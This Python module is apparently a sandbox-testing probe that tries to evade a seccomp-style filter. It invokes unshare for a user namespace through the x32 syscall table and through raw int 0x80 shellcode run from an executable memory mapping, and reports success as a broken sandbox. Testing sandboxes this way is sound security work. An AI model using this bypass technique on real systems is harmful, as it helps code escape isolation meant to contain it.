"""Makes system calls by the tables of other machines, which a filter of one table's numbers does not see."""

import ctypes
import mmap
import os
import platform

from airflow_attack import attack, broken, in_a_fork, libc, tried

UNSHARE_X32, UNSHARE_386 = 0x40000000 | 272, 310
USER = 0x10000000
# push rbx; mov eax, 310; mov ebx, 0x10000000; int 0x80; pop rbx; ret
CODE = b"\x53\xb8\x36\x01\x00\x00\xbb\x00\x00\x00\x10\xcd\x80\x5b\xc3"


def work() -> None:
    if platform.machine() != "x86_64":
        tried("nothing: this machine has one table")
        return
    for name, way in (("x32", _x32), ("80386", _i386)):
        ended = in_a_fork(way)
        tried(f"{name}: ended with {ended}")
        if ended == 42:
            broken(f"a namespace by the table of {name}")


def _x32() -> None:
    if libc.syscall(ctypes.c_long(UNSHARE_X32), ctypes.c_long(USER)) == 0:
        os._exit(42)


def _i386() -> None:
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(CODE)
    place = ctypes.addressof(ctypes.c_char.from_buffer(code))
    if ctypes.CFUNCTYPE(ctypes.c_int)(place)() == 0:
        os._exit(42)


dag = attack(work)
